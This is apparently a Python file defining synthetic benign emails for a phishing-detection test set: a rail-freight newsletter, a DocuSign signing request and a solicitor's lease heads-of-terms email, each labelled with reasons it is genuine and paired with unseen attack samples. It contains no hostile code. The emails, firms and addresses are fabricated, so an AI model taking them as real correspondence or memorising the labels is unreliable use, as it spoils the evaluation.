           '<a href="https://www.railfreight-weekly.com/preferences">Manage preferences</a><br>RailFreight Weekly Ltd, 71 Shelton Street, London WC2H 9JQ')
G(num=14, lang="en", slug="trade-newsletter-sendgrid",
  when=(2026, 11, 19, 7, 30, 0), tz="UK",
  frm=("RailFreight Weekly", "news@railfreight-weekly.com"), to=[("", "katrin.vogel@examplegroup.eu")],
  subject="Brenner possessions 2027, Małaszewicze capacity, DAC webinar",
  hcs=("UTF-8", "Q"),
  infra=("esp", dict(esp="sendgrid", bounce_domain="em7731.railfreight-weekly.com")),
  extra_headers=["List-Unsubscribe: <https://u4821347.ct.sendgrid.net/asm/unsubscribe/?user_id=4821347&data=k8FvQ2xR7pLm>,\r\n <mailto:unsubscribe@railfreight-weekly.com?subject=unsubscribe>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Id: RailFreight Weekly <weekly.railfreight-weekly.com>"],
  body=alt("""RailFreight Weekly - 19 November 2026

ALPINE CORRIDOR: BRENNER BASE TUNNEL ACCESS WORKS SHIFT TO 2027
Infrastructure managers on both sides of the Brenner have published the revised possession plan. Operators should expect single-track working on three weekends in March.

POLAND: TRANSSHIPMENT CAPACITY AT MAŁASZEWICZE UP 12 PER CENT
The new gauge-changing tracks went into service in October, cutting average dwell times for 1520/1435 mm transfers.

WEBINAR: DIGITAL AUTOMATIC COUPLING - WHAT THE 2027 PILOTS MEAN FOR WAGON KEEPERS
Thursday 3 December, 14:00 CET. Register free: https://www.railfreight-weekly.com/events/dac-2027

Read all stories: https://www.railfreight-weekly.com/newsletter/2026-47

Unsubscribe: https://u4821347.ct.sendgrid.net/asm/unsubscribe/?user_id=4821347&data=k8FvQ2xR7pLm
RailFreight Weekly Ltd, 71 Shelton Street, London WC2H 9JQ
""", RFW, cs="utf-8"),
  what="Subscribed trade newsletter sent via SendGrid",
  why="Bulk mail with List-Unsubscribe / One-Click and List-Id, consistent branding, links to the publisher's own site, nothing to log in to or pay.",
  pair="attack 04, attack 23, attack 36")

DS_LINK = "https://eu.docusign.net/Signing/EmailStart.aspx?a=3b7c1e58-2f4d-4a6b-9e0c-8d1f5a2b7c94&etti=24&acct=6f2d8a41-93be-4c1f-a7d2-5e0b9c3f1a68&er=b81e4c0f-7a2d-4e95-8c36-1f0d9b7a2e53"
G(num=15, lang="en", slug="docusign-framework-agreement",
  when=(2026, 11, 19, 15, 8, 44), tz="UK",
  frm=("Mark Davies via Docusign", "dse@eumail.docusign.net"), to=[s("uk_mgr")],
  reply_to=("Mark Davies", "mark.davies@brightwell-aggregates.co.uk"),
  subject="Complete with Docusign: Brightwell_ExampleGroup_Haulage_Framework_2027.pdf",
  hcs=("utf-8", "B"),
  infra=("service", dict(svc="docusign", envelope="3b7c1e58-2f4d-4a6b-9e0c-8d1f5a2b7c94")),
  env_from="dse@eumail.docusign.net",
  body=alt("""Mark Davies sent you a document to review and sign.

REVIEW DOCUMENT: %s

Mark Davies
mark.davies@brightwell-aggregates.co.uk

James, as discussed on the call last Tuesday - the framework agreement for 2027 with the revised volume bands and the indexation clause in schedule 3. Any questions, give me a ring.

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
3B7C1E582F4D4A6B9E0C8D1F5A2B7C944

About Docusign
Sign documents electronically in just minutes. It's safe, secure, and legally binding.

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.
""" % DS_LINK, B.card_html("Mark Davies sent you a document to review and sign.", [
      "<p style=\"font-size:14px;color:#333\"><b>Mark Davies</b><br><a href=\"mailto:mark.davies@brightwell-aggregates.co.uk\">mark.davies@brightwell-aggregates.co.uk</a></p>",
      "James, as discussed on the call last Tuesday - the framework agreement for 2027 with the revised volume bands and the indexation clause in schedule 3. Any questions, give me a ring.",
      "<p style=\"font-size:12px;color:#666\"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</p>",
      "<p style=\"font-size:12px;color:#666\"><b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code: 3B7C1E582F4D4A6B9E0C8D1F5A2B7C944</p>"],
      button=("REVIEW DOCUMENT", DS_LINK), brand="Docusign", head_bg="#1e1450", color="#ffc820", charset="utf-8", lang="en",
      footer="Questions about the Document? If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly."),
      cs="utf-8"),
  what="Genuine DocuSign envelope from the customer for the 2027 framework agreement",
  why="DocuSign's EU mail infrastructure, Reply-To is the customer's real address, message refers to a real prior call, link goes to eu.docusign.net signing, consistent with business 10.",
  pair="attack 26")

hot_pdf, _ = B.pdf("HoT_30CrownPlace_draft_v2.pdf", [
    ("h1", "Heads of Terms – Lease Renewal (Draft v2, subject to contract)"),
    ("s", "Hargreaves Lyle LLP · Prepared for Example Group UK Ltd · 20 October 2026"),
    ("n", "Premises: Part ground floor, 30 Crown Place, London EC2A 4ES"),
    ("n", "Landlord: Crown Place Estates Ltd        Tenant: Example Group UK Ltd"),
    ("n", "Term: 5 years from 25 March 2027, tenant-only break at year 3 on 6 months' notice"),
    ("n", "Rent: £96,500 per annum exclusive, 6 months rent-free, upward-only review at year 3 (not agreed – under negotiation)"),
    ("n", "Dilapidations: landlord's interim schedule to be agreed; any settlement payable on completion through the usual client account"),
    ("n", "Security of tenure: lease to be contracted out of ss.24-28 Landlord and Tenant Act 1954"),
    ("s", "Subject to contract. Hargreaves Lyle LLP is authorised and regulated by the Solicitors Regulation Authority."),
], meta=dict(title="HoT 30 Crown Place", author="E. Price", producer="Microsoft® Word for Microsoft 365",
             creator="Microsoft® Word for Microsoft 365", created="20261020101500+01'00'"))
G(num=16, lang="en", slug="solicitor-lease-heads-of-terms",
  when=(2026, 10, 20, 10, 42, 17), tz="UK",
  frm=("Eleanor Price", "eprice@hargreaveslyle.co.uk"), to=[s("uk_mgr")],
  subject="30 Crown Place - lease renewal: draft heads of terms [HL-Matter 24-0781]",
  hcs=("utf-8", "Q"),
  infra=("exo", dict(srv="LO4P265MB5871", region="GBRP265", obe="GBR01-LO4-obe", mailhost="mail-lo4gbr01on2096",
                     ip="40.107.23.96", lang="en-GB")),
  body=mixed(outlook("""Dear James,

Further to our meeting last week, please find attached the second draft of the heads of terms for the renewal at 30 Crown Place. I have marked the rent review and the break clause as still under negotiation; the landlord's agent has promised their comments by the end of the month.

On dilapidations, the landlord has only served an interim schedule so far. There is nothing to pay at this stage – any settlement would be dealt with on completion in the usual way.

Happy to talk it through – I'm in the office all week.

Kind regards

Eleanor Price
Partner, Real Estate
Hargreaves Lyle LLP | 8 Finsbury Circus, London EC2M 7AZ
T +44 20 7946 0321

Please note: Hargreaves Lyle LLP will never change our bank details by email. If you receive an email purporting to come from us with different bank details, please call us on 020 7946 0321 before sending any funds.
Hargreaves Lyle LLP is authorised and regulated by the Solicitors Regulation Authority.
""", cs="utf-8", lang="EN-GB"), hot_pdf),
  what="The office's solicitors send draft heads of terms for the lease renewal",
  why="Real law-firm domain on its own Microsoft 365 tenant, continues an existing matter, explicitly says nothing is payable now and warns against bank-detail changes by email.",
  pair="attack 12")
